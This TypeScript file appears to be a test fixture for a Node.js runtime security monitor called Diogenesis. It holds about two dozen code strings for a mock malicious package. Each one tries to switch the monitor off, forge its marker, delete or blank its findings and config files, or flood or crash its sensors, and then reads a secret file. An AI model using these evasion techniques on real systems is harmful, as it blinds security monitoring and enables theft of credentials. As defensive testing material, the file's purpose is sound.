import { techniques } from '../technique.ts';

const fs = `const fs = require('node:fs');`;
const STEAL = `prove(fs.readFileSync(SECRET, 'utf8'))`;
const DIST = `const dist = require('node:path').dirname(Object.keys(require.cache).find((f) => /register-main\\.js$/.test(f)) ?? process.execArgv.at(-1));`;

/** Switching Diogenesis off, or making it forget. */
export const SELF_PROTECTION = techniques('field', [
  {
    name: 'deactivate',
    deed: 'tamper',
    says: 'deactivate() of the public API, then the act',
    evil: `${fs} ${DIST} exports.run = () => { require(dist + '/index.js').deactivate(); ${STEAL}; };`,
  },
  {
    name: 'configure',
    deed: 'tamper',
    source: 'own',
    says: 'configure({ senses: … false })',
    evil: `${fs} ${DIST} exports.run = () => { require(dist + '/index.js').configure({ senses: { fs: false, import: false, net: false, childProcess: false } }); ${STEAL}; };`,
  },
  {
    name: 'configure-allow',
    deed: 'tamper',
    source: 'own',
    says: 'configure({ allow: … itself })',
    evil: `${fs} ${DIST} exports.run = () => { require(dist + '/index.js').configure({ allow: [{ package: 'evil', trait: '*', reason: 'x' }], findings: '/dev/null' }); ${STEAL}; };`,
  },
  {
    name: 'handle-of-again',
    deed: 'tamper',
    source: 'own',
    says: 'activate() again, deactivate() of that handle',
    evil: `${fs} ${DIST} exports.run = () => { require(dist + '/index.js').activate().deactivate(); ${STEAL}; };`,
  },
  {
    name: 'immune-system',
    deed: 'tamper',
    source: 'own',
    says: 'shutdown() of createDiogenesis()',
    evil: `${fs} ${DIST} exports.run = () => { const d = require(dist + '/index.js').createDiogenesis(); d.shutdown(); ${STEAL}; };`,
  },
  {
    name: 'immune-system-parts',
    deed: 'tamper',
    source: 'own',
    says: 'replaces methods of the immune system that createDiogenesis() hands out',
    evil: `${fs} ${DIST} exports.run = () => { const d = require(dist + '/index.js').createDiogenesis(); const s = d.immuneSystem; if (s) { try { s.sense = () => undefined; } catch {} try { Object.getPrototypeOf(s).sense = () => undefined; } catch {} } ${STEAL}; };`,
  },
  {
    name: 'instrumentation-switch',
    deed: 'tamper',
    source: 'own',
    says: 'disableAll() of the sense behind an instrumentation',
    evil: `${fs} ${DIST} exports.run = () => { const i = new (require(dist + '/index.js').FsInstrumentation)(); i.switchable?.disableAll(); ${STEAL}; };`,
  },
  {
    name: 'internal-chunk',
    deed: 'tamper',
    source: 'own',
    says: "the exports of Diogenesis' own chunks, through require.cache",
    evil: `${fs} exports.run = () => { for (const m of Object.values(require.cache)) { const e = m.exports; if (typeof e?.current === 'function' && typeof e.current() === 'object') { try { e.current().stop(); } catch {} } if (typeof e?.setPerceiver === 'function') e.setPerceiver(undefined); } ${STEAL}; };`,
  },
  {
    name: 'internal-chunk-file',
    deed: 'tamper',
    source: 'own',
    says: "the exports of Diogenesis' own chunks, required by file",
    evil: `${fs} ${DIST} exports.run = () => { for (const f of fs.readdirSync(dist)) if (/-[\\w-]{8}\\.js$/.test(f)) { try { const e = require(dist + '/' + f); for (const sense of Object.values(e)) if (typeof sense?.disableAll === 'function') sense.disableAll(); if (typeof e.current === 'function') e.current()?.stop(); } catch {} } ${STEAL}; };`,
  },
  {
    name: 'internal-run-as-own',
    deed: 'tamper',
    source: 'own',
    says: "acts as if it were Diogenesis' own work",
    evil: `${fs} exports.run = () => { let ran = false; for (const m of Object.values(require.cache)) if (typeof m.exports?.runAsOwn === 'function') { ran = true; m.exports.runAsOwn(() => ${STEAL}); } if (!ran) ${STEAL}; };`,
  },
  {
    name: 'mark-forged',
    deed: 'tamper',
    says: 'overwrites the mark of the process',
    source: 'own',
    evil: `${fs} exports.run = () => { try { Object.defineProperty(globalThis, Symbol.for('diogenesis-otel.v1'), { value: { version: '9' } }); } catch {} try { delete globalThis[Symbol.for('diogenesis-otel.v1')]; } catch {} ${STEAL}; };`,
  },
  {
    name: 'mark-first',
    limit: 'whoever runs before Diogenesis can keep it away; preload it: then there is no before',
    deed: 'tamper',
    source: 'own',
    says: 'leaves a mark before the application activates Diogenesis',
    before: ['--no-preload'],
    app: `require('evil').run(); require(process.env.DIST + '/index.js').activate(); require('evil').act();`,
    evil: `${fs} exports.run = () => { Object.defineProperty(globalThis, Symbol.for('diogenesis-otel.v1'), { value: { version: '0.1.0' } }); }; exports.act = () => ${STEAL};`,
  },
  {
    name: 'findings-truncated',
    deed: 'tamper',
    says: 'empties the findings file after the act',
    evil: `${fs} exports.run = () => { ${STEAL}; fs.writeFileSync(process.env.DIOGENESIS_FINDINGS, ''); };`,
  },
  {
    name: 'findings-unlinked',
    deed: 'tamper',
    source: 'own',
    says: 'deletes the findings file after the act',
    evil: `${fs} exports.run = () => { ${STEAL}; fs.unlinkSync(process.env.DIOGENESIS_FINDINGS); };`,
  },
  {
    name: 'findings-linked',
    deed: 'tamper',
    source: 'own',
    says: 'puts a link to /dev/null in the place of the findings file',
    evil: `${fs} exports.run = () => { fs.rmSync(process.env.DIOGENESIS_FINDINGS, { force: true }); fs.symlinkSync('/dev/null', process.env.DIOGENESIS_FINDINGS); ${STEAL}; };`,
  },
  {
    name: 'findings-moved',
    limit: 'the act is in the findings file, where it is now; nothing tells a reader of the old place',
    deed: 'tamper',
    source: 'own',
    says: 'renames the folder of the findings file',
    evil: `${fs} exports.run = () => { const d = require('node:path').dirname(process.env.DIOGENESIS_FINDINGS); ${STEAL}; fs.renameSync(d, d + '.old'); fs.mkdirSync(d); };`,
  },
  {
    name: 'lock-overwritten',
    deed: 'tamper',
    says: 'writes itself into the lock file',
    evil: `${fs} exports.run = () => { fs.writeFileSync(process.env.DIOGENESIS_LOCK, '{"lockfileVersion":1,"packages":{},"tools":{}}\\n'); prove(TOKEN); };`,
  },
  {
    name: 'config-overwritten',
    deed: 'tamper',
    says: 'writes a configuration that allows everything',
    evil: `${fs} exports.run = () => { fs.writeFileSync(APP + '/diogenesis.config.json', '{"mode":"off"}'); prove(TOKEN); };`,
  },
  {
    name: 'dist-overwritten',
    deed: 'tamper',
    source: 'own',
    says: 'changes the files of Diogenesis itself',
    evidence: /^fs\.write:/,
    evil: `${fs} exports.run = () => { const copy = APP + '/node_modules/diogenesis-otel'; fs.mkdirSync(copy + '/dist', { recursive: true }); fs.writeFileSync(copy + '/dist/register.js', ''); prove(TOKEN); };`,
  },
  {
    name: 'observations-removed',
    deed: 'tamper',
    source: 'own',
    says: 'removes the observation files',
    evil: `${fs} exports.run = () => { fs.rmSync(process.env.DIOGENESIS_OBSERVATIONS, { recursive: true, force: true }); ${STEAL}; };`,
  },
  {
    name: 'descriptors-closed',
    deed: 'read',
    says: 'closes every open descriptor but the standard ones',
    evil: `${fs} exports.run = () => { for (let fd = 30; fd < 64; fd++) { try { fs.closeSync(fd); } catch {} } ${STEAL}; };`,
  },
  {
    name: 'stderr-closed',
    deed: 'read',
    source: 'own',
    says: 'closes stderr first',
    evil: `${fs} exports.run = () => { fs.closeSync(2); fs.copyFileSync(SECRET, LOOT); };`,
  },
  {
    name: 'noise',
    deed: 'read',
    source: 'own',
    says: 'drowns its act in ten thousand findings',
    evil: `${fs} exports.run = () => { for (let i = 0; i < 10000; i++) { try { fs.readFileSync(HOME + '/.ssh/id_' + i.toString(36)); } catch {} } ${STEAL}; };`,
  },
  {
    name: 'fail-the-sense',
    deed: 'read',
    source: 'own',
    says: 'makes the sense fail until it is switched off',
    evil: `${fs} exports.run = () => {
      for (let i = 0; i < 40; i++) { try { fs.readFileSync({ get href() { throw 1; }, protocol: 'file:' }); } catch {} try { fs.openSync(new Proxy({}, { get() { throw 1; } })); } catch {} }
      ${STEAL};
    };`,
  },
  {
    name: 'stack-overflow',
    limit:
      'where hardly any stack is left, there is none to look with; the act is told when there is some again, without what it was',
    way: /^fs\.call/,
    deed: 'read',
    source: 'own',
    says: 'acts with almost no stack left, so that the sense overflows',
    evil: `${fs} const { copyFileSync } = fs; exports.run = () => {
      let done = false;
      const dive = () => { try { dive(); } catch (error) { if (done) return; copyFileSync(SECRET, LOOT); done = true; } };
      try { dive(); } catch {}
    };`,
  },
]);
